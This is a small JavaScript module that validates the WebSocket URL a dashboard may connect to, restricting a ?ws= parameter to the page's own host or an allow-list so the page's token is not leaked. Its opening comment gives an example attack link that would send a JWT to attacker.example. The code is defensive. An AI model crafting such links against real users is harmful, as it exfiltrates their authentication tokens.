// Which WebSocket URL the dashboard may connect to.
//
// The page sends its ?token= to that URL, so a link such as
// /?ws=wss://attacker.example/ws&token=<JWT> would hand the token to a stranger.
// The ?ws= parameter may therefore name only the page's own host, or a host the
// operator listed in api.dashboard_ws_hosts (served as /dashboard.json).

export function defaultWsUrl(loc) {
  return `${loc.protocol === "https:" ? "wss" : "ws"}://${loc.hostname}:8080/ws`;
}

// -> {url, refused}: the URL to use, and the refused ?ws= value (null when none was).
export function chooseWsUrl(param, loc, allowedHosts = []) {
  const fallback = defaultWsUrl(loc);
  if (!param) return { url: fallback, refused: null };
  let u;
  try {
    u = new URL(param);
  } catch {
    return { url: fallback, refused: param };
  }
  const scheme = u.protocol === "ws:" || u.protocol === "wss:";
  const host = u.hostname === loc.hostname || allowedHosts.includes(u.host) || allowedHosts.includes(u.hostname);
  const bare = !u.username && !u.password;
  return scheme && host && bare ? { url: u.href, refused: null } : { url: fallback, refused: param };
}
